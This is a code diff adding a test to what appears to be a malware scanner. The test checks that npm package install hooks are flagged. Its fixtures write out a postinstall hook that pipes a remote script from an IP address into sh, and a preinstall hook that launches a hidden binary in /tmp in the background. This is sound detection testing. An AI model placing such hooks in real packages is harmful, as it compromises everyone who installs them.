@@ -4,6 +4,7 @@ own maintainer and system scripts, admin scripts and registry installers stay be
 from __future__ import annotations
 
 import base64
+import json
 import subprocess
 import sys
 import tarfile
@@ -270,3 +271,30 @@ def test_a_module_loaded_by_a_split_name_counts_as_starting_programs(tmp_path: P
     (f,) = res.report.findings
     assert f.severity >= Severity.MEDIUM
     assert {"MH-SCRIPT-019", "MH-SCRIPT-022"} <= {e.check_id for e in f.evidence}
+
+
+def _package(scripts: dict[str, str]) -> str:
+    return json.dumps({"name": "util-pack", "version": "1.0.3", "scripts": scripts}, indent=2)
+
+
+def test_a_package_install_hook_that_runs_a_dropper_command_is_medium(tmp_path: Path) -> None:
+    fetch = "curl -fsSL http://203.0.113.9/setup.sh | sh"
+    for name, scripts in {
+        "hook": {"test": "node test.js", "postinstall": fetch},
+        "preinstall": {"preinstall": "nohup /tmp/.npm/helper >/dev/null 2>&1 &"},
+        "not-a-hook": {"test": fetch},  # run by hand, not at install: the command alone
+        "local-file": {"postinstall": "node install.js"},
+    }.items():
+        (tmp_path / name).mkdir()
+        (tmp_path / name / "package.json").write_text(_package(scripts))
+    res = run_cli("scan", "files", str(tmp_path), "--format", "json")
+    by_dir = {Path(f.target.path or "").parent.name: f for f in res.report.findings}
+    for name in ("hook", "preinstall"):
+        f = by_dir[name]
+        assert f.severity >= Severity.MEDIUM, (name, f.severity)
+        hook = [e for e in f.evidence if e.check_id == "MH-SCRIPT-024"]
+        assert hook and "install" in hook[0].summary
+        assert "T1195.002" in f.attack
+    assert by_dir["not-a-hook"].severity == Severity.LOW
+    assert "MH-SCRIPT-024" not in {e.check_id for e in by_dir["not-a-hook"].evidence}
+    assert "local-file" not in by_dir
